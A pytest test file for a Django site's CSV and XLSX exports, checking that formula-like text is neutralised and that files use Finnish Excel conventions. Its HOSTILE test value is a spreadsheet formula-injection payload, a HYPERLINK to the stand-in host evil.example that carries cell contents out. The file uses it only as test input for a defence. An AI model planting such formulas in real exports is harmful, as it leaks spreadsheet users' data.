"""Safe exports: every CSV and XLSX neutralises formula-like text and is written the
way Finnish Excel reads it."""

import io

import openpyxl
import pytest
from django.urls import reverse

from yhdyspinta.core.exports import csv_bytes, safe_text
from yhdyspinta.nominations.models import NominationRound
from yhdyspinta.nominations.services import NomineeRow, answer_save

pytestmark = [pytest.mark.django_db, pytest.mark.pages]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"klikkaa")'


@pytest.mark.parametrize("text", ["=1+1", "+358 40", "-2", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_is_neutralised(text):
    assert safe_text(text) == "'" + text


def test_csv_is_semicolon_separated_with_decimal_comma_and_bom():
    content = csv_bytes(["Nimi", "Arvo"], [["Joensuu", 11.5], [HOSTILE, -3], ["tyhjä", None]])
    assert content.startswith("\ufeff".encode())
    text = content.decode("utf-8-sig")
    assert "Joensuu;11,5" in text
    assert ";-3" in text  # a number stays a number
    assert text.splitlines()[2].startswith("\"'=HYPERLINK(")


def test_nomination_board_exports_neutralise_what_an_answer_link_typed(client, login, demo):
    from datetime import timedelta

    from django.utils import timezone

    round_ = NominationRound.objects.get(title="Kumppanuusryhmien jäsenet 2027–2028")
    # The demo's deadline is a fixed date and today moves: a month ahead, whatever the day.
    round_.deadline = timezone.localdate() + timedelta(days=30)
    round_.save()
    request = round_.requests.select_related("organisation").first()
    answer_save(
        request=request,
        rows=[NomineeRow(position=1, role="member", first_name=HOSTILE, last_name="@cmd")],
        submit=False,
    )
    login("paakayttaja")
    base = {"area": "pohjois-karjala", "pk": round_.pk}
    csv_text = client.get(
        reverse("nominations:round_export", kwargs={**base, "fmt": "csv"})
    ).content
    assert b"=HYPERLINK" not in csv_text.replace(b"'=HYPERLINK", b"")
    xlsx = client.get(reverse("nominations:round_export", kwargs={**base, "fmt": "xlsx"})).content
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    cells = [c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_indicator_csv_reads_in_finnish_excel(client, demo):
    url = reverse("indicators:indicator", kwargs={"area": "pohjois-karjala", "indicator": 900001})
    content = client.get(url + "?format=csv").content.decode("utf-8-sig")
    rows = [line.split(";") for line in content.splitlines()[1:]]
    numbers = [row[2] for row in rows if len(row) >= 3 and row[2]]
    assert numbers
    assert any("," in n for n in numbers)
    assert not any("." in n for n in numbers)
